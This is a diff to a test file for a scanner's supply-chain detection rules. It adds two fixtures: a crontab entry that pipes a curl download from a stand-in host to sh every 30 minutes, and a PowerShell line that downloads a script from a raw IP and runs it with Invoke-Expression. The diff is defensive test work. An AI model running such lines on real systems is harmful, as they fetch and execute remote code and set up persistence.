@@ -172,6 +172,21 @@ const cases: Case[] = [
     text: 'pip install requests==2.32.3 "rich>=13,<14"\npip install -r requirements.txt\nnpm ci\nnpm install\nnpx prettier@3.3.3 --check .\npip install --upgrade pip setuptools wheel\n',
     absent: ['SC1'],
   },
+  {
+    name: 'SC2: a crontab entry that pipes a download to sh',
+    path: 'scripts/watch.sh',
+    text: '(crontab -l 2>/dev/null; echo "*/30 * * * * curl -s https://x.example.sh/w | sh") | crontab -\n',
+    expect: [['SC2', 1]],
+  },
+  {
+    name: 'SC2 and SC5: powershell WebClient download from a raw IP run by Invoke-Expression',
+    path: 'scripts/sync.ps1',
+    text: "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://198.51.100.3/cal.ps1')\n",
+    expect: [
+      ['SC2', 1],
+      ['SC5', 1],
+    ],
+  },
 ];
 
 describe('supply-chain rules (SC1, SC2, SC3, SC5)', () => {
